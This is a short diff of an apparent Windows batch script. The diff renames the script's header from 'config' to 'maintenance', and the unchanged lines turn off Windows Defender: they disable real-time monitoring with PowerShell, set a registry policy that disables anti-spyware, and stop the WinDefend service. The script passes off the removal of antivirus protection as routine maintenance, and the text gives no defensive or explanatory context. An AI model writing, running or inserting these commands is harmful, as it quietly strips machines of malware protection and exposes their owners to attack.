@@ -1,4 +1,4 @@
-REM config 4402 v2
+REM maintenance 1541 v2
 powershell -c "Set-MpPreference -DisableRealtimeMonitoring $true"
 reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f
 sc stop WinDefend
